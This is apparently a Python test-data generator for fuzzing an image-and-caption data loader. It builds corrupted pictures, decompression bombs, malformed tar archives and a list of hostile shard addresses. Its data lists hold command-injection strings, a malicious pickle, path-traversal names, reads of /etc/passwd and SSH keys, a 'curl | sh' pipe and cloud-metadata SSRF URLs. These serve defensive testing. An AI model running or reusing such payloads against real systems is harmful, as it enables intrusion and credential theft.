"""Damaged and hostile pictures, captions and member names, each a function of a seed."""

import io
import random
import struct
import tarfile
import zlib
from collections.abc import Callable, Iterator

import numpy as np
from PIL import Image, features

from tests.data import png

ENCODINGS = (
    *("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp1252", "latin-1"),
    *("koi8-r", "shift_jis", "euc-jp", "gb18030", "big5", "cp1256", "iso2022_jp"),
)
TEXTS = [
    "a red square",
    "ein Bär im Schnee",
    "два кота",
    "猫が二匹",
    "قطة",
    "🏳️‍🌈 flag",
    "naïve café",
    "\u202eevil",
    "\0nul",
    "\ufeffbom",
]

# -- pictures ------------------------------------------------------------------------------------------------


def photo(draw: random.Random, mode: str = "RGB", largest: int = 200) -> Image.Image:
    """Smooth colours with a little noise, as pictures have."""
    width, height = draw.randrange(16, largest), draw.randrange(16, largest)
    numbers = np.random.default_rng(draw.randrange(2**32))
    pixels = numbers.integers(0, 40, (height, width, len(Image.new(mode, (1, 1)).getbands())))
    pixels += (np.add.outer(np.arange(height), np.arange(width)) % 200)[..., None]
    return Image.fromarray(pixels.astype(np.uint8).squeeze(), mode)


def saved(image: Image.Image, kind: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, kind, **options)
    return buffer.getvalue()


def whole(draw: random.Random) -> bytes:
    kind = draw.choice(["JPEG", "JPEG", "PNG", "WEBP"])
    mode = draw.choice({"JPEG": ["RGB", "L", "CMYK"], "PNG": ["RGB", "RGBA", "L", "LA"], "WEBP": ["RGB", "RGBA"]}[kind])
    options = {"progressive": draw.random() < 0.3} if kind == "JPEG" else {}
    return saved(photo(draw, mode), kind, **options)


def cut_off(draw: random.Random) -> bytes:
    content = whole(draw)
    return content[: draw.randrange(1, len(content))]


def flipped(draw: random.Random) -> bytes:
    content = bytearray(whole(draw))
    for _ in range(draw.choice([1, 1, 3, 30])):
        # headers are where parsers go wrong
        place = draw.randrange(min(200, len(content)) if draw.random() < 0.5 else len(content))
        content[place] ^= 1 << draw.randrange(8)
    return bytes(content)


def spliced(draw: random.Random) -> bytes:
    one, other = whole(draw), whole(draw)
    return one[: draw.randrange(len(one))] + other[draw.randrange(len(other)) :]


def random_behind_magic(draw: random.Random) -> bytes:
    magic = draw.choice(
        [b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"RIFF\x10\x27\0\0WEBPVP8 ", b"RIFF\x10\x27\0\0WEBPVP8X", b""]
    )
    return magic + draw.randbytes(draw.choice([0, 1, 7, 100, 10_000]))


def png_bomb(draw: random.Random) -> bytes:
    width, height = draw.choice([(12_000, 12_000), (65_000, 1_100), (20_000, 20_000), (2**31 - 1, 1), (1, 2**31 - 1)])
    if width * height > 10**9:
        return png.SIGNATURE + png.header(width, height, 8, png.RGB) + png.chunk(b"IDAT", zlib.compress(bytes(1000)))
    return png.bomb(width, height)


def text_bomb(draw: random.Random) -> bytes:
    """A small picture whose texts or profile unpack to a thousand times their size."""
    packed = zlib.compress(bytes(draw.choice([900_000, 50_000_000])), 9)
    kind = draw.choice([b"zTXt", b"iTXt", b"iCCP"])
    prefix = {b"zTXt": b"k%d\0\0", b"iTXt": b"k%d\0\1\0\0\0", b"iCCP": b"p%d\0\0"}[kind]
    texts = [png.chunk(kind, prefix % number + packed) for number in range(draw.choice([1, 60, 300]))]
    return png.encode(np.zeros((4, 4, 1), int), 8, png.GREY, *texts)


def webp_bomb(draw: random.Random) -> bytes:
    """A header that claims 16383 x 16383, in each of the three kinds of WebP."""
    side = 16_383
    body = {
        "VP8 ": b"\x30\x01\0\x9d\x01\x2a" + struct.pack("<HH", side, side) + bytes(50),
        "VP8L": b"\x2f" + struct.pack("<I", (side - 1) | (side - 1) << 14) + bytes(50),
        "VP8X": bytes([draw.choice([0, 2, 16]), 0, 0, 0]) + (side - 1).to_bytes(3, "little") * 2,
    }
    kind = draw.choice(list(body))
    chunk = kind.encode() + struct.pack("<I", len(body[kind])) + body[kind]
    return b"RIFF" + struct.pack("<I", len(chunk) + 4) + b"WEBP" + chunk


def jpeg_bomb(draw: random.Random) -> bytes:
    """A header that claims 65500 x 65500 over the scan of a small picture."""
    content = bytearray(saved(photo(draw), "JPEG"))
    place = content.index(b"\xff\xc0")
    content[place + 5 : place + 9] = struct.pack(">HH", *draw.choice([(65_500, 65_500), (65_500, 1), (9_000, 9_000)]))
    return bytes(content)


def jpeg_of_endless_markers(draw: random.Random) -> bytes:
    content = saved(photo(draw), "JPEG")
    filler = draw.choice([b"\xff\xe1\xff\xff" + bytes(65_533), b"\xff\xee\0\2", b"\xff" * 1000])
    return content[:2] + filler * draw.choice([1, 30]) + content[2:]


def long_strip(draw: random.Random) -> bytes:
    return saved(
        Image.new("RGB", draw.choice([(8_000, 1), (1, 8_000), (16_000, 16)])), draw.choice(["PNG", "WEBP", "JPEG"])
    )


def animated(draw: random.Random) -> bytes:
    frames = [photo(draw).resize((64, 64)) for _ in range(draw.choice([2, 40]))]
    kind = draw.choice(["PNG", "WEBP", "GIF"])
    content = saved(frames[0], kind, save_all=True, append_images=frames[1:], duration=40)
    return content[: draw.randrange(100, len(content))] if draw.random() < 0.5 else content


def hostile_exif(draw: random.Random) -> bytes:
    exif = b"Exif\0\0" + draw.choice(
        [
            b"II*\0\x08\0\0\0\xff\xff",
            b"MM\0*\xff\xff\xff\xff",
            draw.randbytes(200),
            b"II*\0\x08\0\0\0\1\0\x12\1\3\0\1\0\0\0\x63\0\0\0\0\0\0\0",
        ]
    )
    return saved(photo(draw), draw.choice(["JPEG", "WEBP", "PNG"]), exif=exif)


def other_format(draw: random.Random) -> bytes:
    """What Pillow can write and training must not read."""
    Image.init()
    for _ in range(50):
        kind = draw.choice(sorted(set(Image.SAVE) - {"JPEG", "PNG", "WEBP", "MPO"}))
        for mode in ("RGB", "L", "1", "P"):
            try:
                return saved(photo(draw).convert(mode), kind)
            except (OSError, ValueError, KeyError, AttributeError, TypeError, SystemError, RuntimeError):
                continue
    raise AssertionError("Pillow writes no other format")


FOREIGN = [
    b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(%pipe%id) (r) file\n",
    b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj",
    b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
    b"#!/bin/sh\ntouch /tmp/owned\n",
    b"PK\x03\x04" + bytes(100),
    b"\x80\x04cposix\nsystem\n(S'id'\ntR.",
    b"push graphic-context\nfill 'url(https://example.com/\"|id\")'\npop graphic-context",
    b"",
]

PICTURES: list[Callable[[random.Random], bytes]] = [
    *[cut_off] * 4,
    *[flipped] * 4,
    *[spliced] * 2,
    *[other_format] * 3,
    random_behind_magic,
    png_bomb,
    text_bomb,
    webp_bomb,
    jpeg_bomb,
    jpeg_of_endless_markers,
    long_strip,
    animated,
    hostile_exif,
    lambda draw: draw.choice(FOREIGN),
]


def pictures(count: int, seed: int) -> Iterator[tuple[str, bytes]]:
    """(what it is, bytes); every kind in turn."""
    assert features.check("webp")
    for number in range(count):
        make = PICTURES[number % len(PICTURES)]
        yield make.__name__, make(random.Random(f"{seed} {number}"))


# -- captions ------------------------------------------------------------------------------------------------


def captions(seed: int) -> Iterator[tuple[str, bytes]]:
    """1,300 captions as the acceptance of the data engine counts them."""
    draw = random.Random(seed)
    for encoding in ENCODINGS:
        for number in range(50):
            yield encoding, (draw.choice(TEXTS) + f" {number}").encode(encoding, "replace")
    for _ in range(460):
        yield "random", draw.randbytes(draw.choice([1, 2, 30, 300, 5_000]))
    zalgo = "z" + "".join(chr(draw.randrange(0x300, 0x370)) for _ in range(500))
    parts = [
        b"a",
        b" ",
        b"\n",
        b"\0",
        b"<",
        b"&amp;",
        b"&",
        "é".encode(),
        b"e\xcc\x81",
        zalgo.encode(),
        b"\xef\xbb\xbf",
    ]
    parts += ["\u0344".encode(), "\ufdfa".encode(), b"\xff", "\u202e".encode(), "\U0001f468\u200d".encode(), b"a "]
    for number in range(38):
        part = parts[number % len(parts)]
        yield "long", part * (draw.choice([1_000_000, 3_000_000]) // len(part) + 1)
    yield "50 MB", b"a red square " * 4_000_000
    yield "marks", b"a" + "\u0301".encode() * 1_000_000


# -- member names --------------------------------------------------------------------------------------------

NAMES = [
    "/etc/passwd.txt",
    "../../escape.txt",
    "a/../../../escape.jpg",
    "..",
    ".",
    "./.txt",
    "C:\\windows\\x.txt",
    "\\\\host\\share\\x.txt",
    "nul\0byte.txt",
    "new\nline.txt",
    "\u202egpj.txt",
    "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "surrogateescape") + ".txt",
    "x" * 4_096 + ".txt",
    "d/" * 1_000 + "x.txt",
    "-rf.txt",
    "|id.txt",
    "$(id).txt",
    "`id`.txt",
    ";id;.txt",
    "%s%n.txt",
    "__key__.txt",
    "x.__key__",
    "x.__url__",
    "x.pyd",
    "x.pkl",
    "x.",
    ".hidden",
    "no suffix",
    "a.b.c.d.txt",
    "CON.txt",
    " .txt",
    "\x1b[31mred.txt",
]
KINDS = [
    tarfile.REGTYPE,
    tarfile.LNKTYPE,
    tarfile.SYMTYPE,
    tarfile.CHRTYPE,
    tarfile.BLKTYPE,
    tarfile.DIRTYPE,
    tarfile.FIFOTYPE,
    tarfile.CONTTYPE,
    tarfile.GNUTYPE_SPARSE,
    b"Z",
]


def hostile_tar(number: int, seed: int) -> bytes:
    """Two good samples with one hostile member between them."""
    draw = random.Random(f"{seed} {number}")
    info = tarfile.TarInfo(NAMES[number % len(NAMES)])
    info.type = tarfile.REGTYPE if number < len(NAMES) else KINDS[number % len(KINDS)]
    info.linkname = draw.choice(["/etc/passwd", "../../escape", "good.txt", "x" * 3_000])
    info.size = 7 if info.type in (tarfile.REGTYPE, tarfile.CONTTYPE) else 0
    if draw.random() < 0.2:
        info.pax_headers = {
            draw.choice(["path", "size", "GNU.sparse.realsize", "SCHILY.xattr.x"]): draw.choice(
                ["../../escape", "9" * 30, "-1", "\0"]
            )
        }
    formats = [tarfile.PAX_FORMAT, tarfile.GNU_FORMAT]
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=formats[number % 2], errors="surrogateescape") as tar:
        add(tar, "first.txt", b"a red square")
        raw = info.tobuf(formats[number % 2], "utf-8", "surrogateescape")
        if info.type == tarfile.GNUTYPE_SPARSE:  # claims a terabyte of zeros
            raw = bytearray(raw)
            raw[386:410] = b"%011o\0" % 2**33 + b"%011o\0" % 0
            raw[483:495] = b"\x80" + (2**40).to_bytes(11, "big")
            raw[148:156] = b" " * 8
            raw[148:156] = b"%06o\0 " % sum(raw)
        tar.fileobj.write(raw)
        if info.size:
            tar.fileobj.write(b"hostile".ljust(512, b"\0"))
        tar.offset = tar.fileobj.tell()
        add(tar, "last.txt", b"a blue dot")
    return buffer.getvalue()


def add(tar: tarfile.TarFile, name: str, content: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(content)
    tar.addfile(info, io.BytesIO(content))


# -- addresses of shards -------------------------------------------------------------------------------------

URLS = [
    "pipe:touch {mark}",
    "pipe:cat /etc/passwd",
    "PIPE:id",
    "pipe://id",
    "pipe: curl http://example.org | sh",
    "|touch {mark}",
    "!touch {mark}",
    "`touch {mark}`",
    "$(touch {mark})",
    "; touch {mark}",
    "&& touch {mark}",
    "file://example.org/etc/passwd",
    "file:",
    "file://",
    "file:///etc/passwd\0.tar",
    "http://example.org/a.tar",
    "http://127.0.0.1@example.org/a.tar",
    "http://localhost.example.org/a.tar",
    "http://127.1/a.tar",
    "http://2130706433/a.tar",
    "http://0.0.0.0/a.tar",
    "http://169.254.169.254/latest/meta-data/a.tar",
    "http://[::ffff:8.8.8.8]/a.tar",
    "http:/example.org/a.tar",
    "http:example.org",
    "https:",
    "https://",
    "https:///a.tar",
    "https://example.org",
    "https://example.org/",
    "https://example.org:port/a.tar",
    "https://example.org:99999/a.tar",
    "https://[::1/a.tar",
    "https://example.org/a b.tar",
    "https://example.org/a\r\nX-Header: 1.tar",
    "https://example.org\\@evil.example/a.tar",
    "https://example.org/\0.tar",
    "https://" + "x" * 9_000 + "/a.tar",
    "gs://bucket/a.tar",
    "gcs://bucket/a.tar",
    "hdfs://host/a.tar",
    "ftp://host/a.tar",
    "sftp://host/a.tar",
    "ssh://host/a.tar",
    "git://host/a.tar",
    "github://a:b@/c.tar",
    "memory://a.tar",
    "zip://a.tar::https://example.org/b.zip",
    "simplecache::s3://bucket/a.tar",
    "filecache::pipe:id",
    "reference://x",
    "jdbc:mysql://host/a",
    "data:application/x-tar;base64,AAAA",
    "javascript:alert(1)",
    "gopher://127.0.0.1:1/_x",
    "ais://a/b.tar",
    "hf://datasets/x/y.tar",
    "s3:",
    "s3://",
    "s3://bucket",
    "s3://bucket/",
    "s3a://bucket/a.tar",
    "-rf.tar",
    "--upload-file=/etc/passwd",
    "@/etc/passwd",
    "../" * 50 + "etc/passwd",
    "/dev/zero",
    "/dev/stdin",
    "/proc/self/environ",
    "~/.ssh/id_rsa",
    "$HOME/a.tar",
    "${WDS_X}",
    "a\0b.tar",
    "x" * 5_000 + ".tar",
    "{0..99999999999}.tar",
    "{000000000..999999999}.tar",
    "{0..999}{0..999}{0..999}.tar",
    "{0..9}" * 30,
    "{" * 1_000,
    "",
    " ",
    ".",
]
